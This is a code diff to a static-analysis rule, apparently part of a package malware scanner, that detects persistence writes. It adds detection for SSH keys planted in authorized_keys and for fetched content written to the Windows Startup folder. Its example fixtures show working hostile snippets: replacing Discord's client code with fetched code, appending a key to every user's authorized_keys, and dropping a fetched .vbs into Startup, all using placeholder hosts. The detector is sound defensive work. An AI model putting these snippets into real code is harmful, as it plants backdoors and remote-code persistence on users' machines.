@@ -1,4 +1,4 @@
-import { defineRule, step } from '../src/define.js';
+import { defineRule, step, stepsOf } from '../src/define.js';
 import type { AnyNode, FileContext } from '../src/types.js';
 import { PERSISTENT_PLACES } from '../src/vocabulary/places.js';
 
@@ -10,10 +10,12 @@ export default defineRule({
     messages: {
       persists: 'Writes to {what}',
       injects: 'Writes what it fetched into a file, and knows where the chat client’s code is',
+      key: 'Lets the owner of a key of its own log in: {path}',
+      plants: 'Writes what {source} answers to {what}',
       package: 'Writes into another package: {path}',
       restores: 'Sets a file’s times back after changing it',
     },
-    bits: { injects: 12, persists: 4, package: 5, restores: 5 },
+    bits: { injects: 12, persists: 4, key: 14, plants: 11, package: 5, restores: 5 },
   },
   examples: {
     flags: [
@@ -28,6 +30,14 @@ export default defineRule({
       {
         title: 'the chat client’s code is replaced by what is fetched',
         code: `const fs = require('fs'), glob = require('glob'), https = require('https');\nconst files = glob.sync(process.env.LOCALAPPDATA + '/Discord/app-*/modules/discord_desktop_core-*/discord_desktop_core/index.js');\nhttps.get('https://host.invalid/client.js', response => {\n  let text = '';\n  response.on('data', chunk => { text += chunk; });\n  response.on('end', () => files.forEach(file => fs.writeFileSync(file, text)));\n});`,
+      },
+      {
+        title: 'a key that stands in the code is added to everybody’s',
+        code: `const fs = require('fs'), key = 'ssh-rsa AAAAB3NzaC1yc2EAAAADsample sample@invalid';\nfs.readdir('/home', (error, names) => {\n  names.forEach(name => fs.appendFile('/home/' + name + '/.ssh/authorized_keys', '\\n' + key, () => {}));\n});`,
+      },
+      {
+        title: 'what is fetched starts with the machine',
+        code: `const fs = require('fs');\nfetch('https://stage.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync(process.env.APPDATA + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.vbs', text);\n});`,
       },
       {
         title: 'a workflow is planted',
@@ -68,10 +78,20 @@ export default defineRule({
             text,
           );
         if (!place && !other) continue;
+        const data = call.args[1];
+        const key =
+          /authorized_keys/.test(text) &&
+          data &&
+          context.textsOf(data).some(one => /(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp\d+) AAAA[\w+/]{8}/.test(one));
+        // A workflow or a profile may well be fetched from a template; what starts with the machine may not.
+        const label =
+          place && data && /startup/.test(place.what)
+            ? context.labelsOf(data).find(({ kind }) => kind === 'remote')
+            : undefined;
         context.report({
-          messageId: place ? 'persists' : 'package',
-          data: { what: place?.what ?? '', path: text },
-          chain: [step('sink', `writes with ${call.name}`, context.file, call.node)],
+          messageId: key ? 'key' : label ? 'plants' : place ? 'persists' : 'package',
+          data: { what: place?.what ?? '', path: text, source: label?.detail ?? '' },
+          chain: [...(label ? stepsOf(label) : []), step('sink', `writes with ${call.name}`, context.file, call.node)],
         });
         break;
       }
